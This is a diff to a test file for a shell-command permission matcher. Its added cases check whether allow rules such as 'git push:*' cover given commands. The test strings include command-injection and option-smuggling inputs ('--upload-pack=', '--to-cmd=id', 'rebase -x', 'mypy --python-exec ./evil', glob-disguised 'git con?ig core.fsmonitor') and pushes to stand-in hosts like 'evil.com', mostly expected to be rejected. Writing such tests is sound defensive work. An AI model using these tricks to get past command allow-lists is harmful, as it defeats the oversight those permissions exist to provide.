@@ -46,7 +46,48 @@ GIT = ["git diff:*", "git log:*"]
         (r"git add $'\'' ; touch PWNED ; : \'", ["git add *"], False),
         ("git add src/a.py docs", ["git add *"], True),
         ("git add", ["git add *"], True),
-        ("git add src/*.py", ["git add *"], True),
+        ("git add src/*.py", ["git add *"], False),
+        ("git add 'src/*.py'", ["git add *"], True),
+        ("git add src/?.py", ["git add src/?.py"], True),
+        ("git reset HEAD^ main@{1}", ["git reset:*"], True),
+        ("git reset -^x", ["git reset:*"], False),
+        ("git co{n}fig x.y", ["git:*"], False),
+        ("git fetch --upl* .", ["git fetch:*"], False),
+        ("git fetch ?-up* .", ["git fetch:*"], False),
+        ("git con?ig core.fsmonitor x", ["git:*"], False),
+        ("make test ?-ev*", ["make test:*", "make:*"], False),
+        ("git submodule fore*ch x", ["git submodule:*"], False),
+        ("git bisect r?n x", ["git bisect:*"], False),
+        ("git difftool -y -x id HEAD~1", ["git difftool:*"], False),
+        ("git difftool -y HEAD~1", ["git difftool:*"], True),
+        ("git rebase -x id HEAD~1", ["git reb*"], False),
+        ("git rebase main", ["git reb*"], True),
+        ("git rebase -x id main", ["git rebase -x:*"], True),
+        ("git fetch --upload-pack=x .", ["git fetch --*"], False),
+        ("git --no-pager fetch --upload-pack=x", ["git --no-pager fetch:*"], False),
+        ("apt-get install -o x=y z", ["apt-get install:*"], False),
+        ("git send-email --to-cmd=id x", ["git send-email:*"], False),
+        ("git send-email --header-cmd id x", ["git send-email:*"], False),
+        ("git archive --remote=vendor/evil --format=evil main", ["git archive:*"], False),
+        ("git archive -o x main", ["git archive:*"], False),
+        ("git archive main", ["git archive:*"], True),
+        ("git push vendor/evil HEAD:refs/heads/new", ["git push:*"], False),
+        ("git push evil.com:x HEAD", ["git push:*"], False),
+        ("git push --push-option 1 vendor/evil", ["git push:*"], False),
+        ("git push -- vendor/evil", ["git push:*"], False),
+        ("git push -fu origin HEAD:refs/heads/new", ["git push:*"], False),
+        ("git push -f -u origin HEAD:refs/heads/new", ["git push:*"], True),
+        ("git fetch --depth=1 origin refs/heads/x", ["git fetch:*"], True),
+        ("git fetch origin --multiple vendor/evil", ["git fetch:*"], False),
+        ("git pull vendor/evil", ["git pull:*"], False),
+        ("git ls-remote vendor/evil", ["git ls-remote:*"], False),
+        ("git remote add x vendor/evil", ["git remote:*"], False),
+        ("pytest -p evil", ["pytest:*"], False),
+        ("pytest @arguments", ["pytest:*"], False),
+        ("pytest -p no:cacheprovider -q", ["pytest -p no:cacheprovider:*"], True),
+        ("/usr/bin/pytest --rootdir=x", ["/usr/bin/pytest:*"], False),
+        ("mypy --python-exec ./evil a.py", ["mypy:*"], False),
+        ("mypy --python-version 3.12 a.py", ["mypy:*"], True),
         ("git addition", ["git add *"], False),
         ("npm test", ["npm test"], True),
         ("npm  'test'", ["npm test"], True),
@@ -69,7 +110,15 @@ GIT = ["git diff:*", "git log:*"]
     ],
 )
 def test_commands(command: str, rules: list[str], covered: bool) -> None:
-    assert any(covers_command(rule, command) for rule in rules) is covered
+    assert any(covers_command(rule, command, Path.cwd()) for rule in rules) is covered
+
+
+def test_what_git_talks_to_is_a_remote_and_no_folder(tmp_path: Path) -> None:
+    (tmp_path / "evil").mkdir()
+    (tmp_path / "bare.git").mkdir()
+    for name, covered in (("origin", True), ("evil", False), ("bare", False)):
+        for command in ("push", "fetch", "pull", "ls-remote"):
+            assert covers_command(f"git {command}:*", f"git {command} {name} x", tmp_path) is covered, (command, name)
 
 
 @pytest.mark.parametrize(
